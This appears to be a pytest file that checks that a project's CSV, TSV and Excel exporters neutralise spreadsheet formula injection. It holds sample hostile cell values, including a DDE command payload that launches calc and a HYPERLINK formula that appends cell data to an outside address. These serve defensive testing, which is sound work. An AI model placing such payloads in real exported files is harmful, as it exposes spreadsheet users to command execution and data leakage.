"""No table that leaves the program calculates anything in a spreadsheet."""

import csv
import io
from pathlib import Path

import openpyxl
import pytest

import kzannotate
from kzannotate.domain.comparison import Sheet, SheetCell
from kzannotate.domain.entity import Evidence, Fact, NameStatus
from kzannotate.domain.quality_report import QualityLine, QualityReport
from kzannotate.formats import comparison_csv, comparison_xlsx, concordance_csv
from kzannotate.formats.fact_lists import fact_csv
from kzannotate.formats.quality import quality_tsv
from kzannotate.formats.termbase import forbidden_list, term_csv, utx
from kzannotate.formats.termbase.model import Entry, EntryName, Termbase

FORMULAS = (
    *("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "|calc", "%0A=1"),
    *('=HYPERLINK("http://x.example/"&A1,"x")', "＝1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0"),
)
SOURCES = Path(kzannotate.__file__).parent
RUNS = tuple("=+-@\t\r\n|%＝＋－＠")


def concordance(words):
    return concordance_csv.write([(words,) * 8])


def comparison(words):
    return comparison_csv.write(_sheet(words))


def comparison_tabs(words):
    return comparison_csv.write_tabs(_sheet(words))


def _sheet(words):
    cells = ((SheetCell(words),) * 3,)
    return Sheet(words, (words,) * 3, cells, "ar", rtl=True, pinned=1, legend={})


def facts(words):
    sources = (Evidence("s", words, words, quote=words),)
    return fact_csv.write([Fact("f", words, words, words, words, note=words, sources=sources)], {})


def quality(words):
    line = QualityLine(words, True, words, words, words, 1, 0, 1, words, words, words, words)
    return quality_tsv.write(QualityReport(words, words, lines=(line,)))


def _base(words):
    names = (
        EntryName(words, "en", NameStatus.PREFERRED, words),
        EntryName(words + "x", "en", NameStatus.DEPRECATED, words),
        EntryName(words, "ar", NameStatus.PREFERRED, words),
    )
    return Termbase(words, (Entry("e", "person", None, words, words, names),), "2024-01-01")


def terms(words):
    return term_csv.write(_base(words)).text


def exchange(words):
    return utx.write(_base(words)).text


def forbidden(words):
    return forbidden_list.write(_base(words)).text


WITH_TABS = (comparison_tabs, quality, exchange)
WRITERS = (*WITH_TABS, concordance, comparison, facts, terms, forbidden)


def cells_of(table, separator):
    rows = csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""), delimiter=separator)
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("write", WRITERS)
@pytest.mark.parametrize("words", FORMULAS, ids=repr)
def test_no_cell_of_any_table_begins_like_a_formula(write, words):
    separator = "\t" if write in WITH_TABS else ";" if write is forbidden else ","
    cells = [
        cell for cell in cells_of(write(words), separator) if cell.lstrip(" ") not in ("", "-")
    ]
    assert any(words.strip()[1:4] in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip(" ").startswith(RUNS)] == []


@pytest.mark.parametrize("words", FORMULAS, ids=repr)
def test_no_cell_of_a_workbook_is_a_formula(words):
    page = openpyxl.load_workbook(io.BytesIO(comparison_xlsx.write(_sheet(words)))).active
    assert {cell.data_type for row in page.iter_rows() for cell in row} == {"s"}


def test_every_module_that_writes_a_table_is_tried_here():
    """Who calls csv.writer, or says what a formula is, stands in this list."""
    texts = {path.name: path.read_text("utf-8") for path in SOURCES.rglob("*.py")}
    writers = {name for name, text in texts.items() if "csv.writer" in text or "defused(" in text}
    tried = ("formula_cells", "concordance_csv", "comparison_csv", "comparison_xlsx")
    tried += ("fact_csv", "quality_tsv", "cells")
    assert writers == {f"{name}.py" for name in tried}
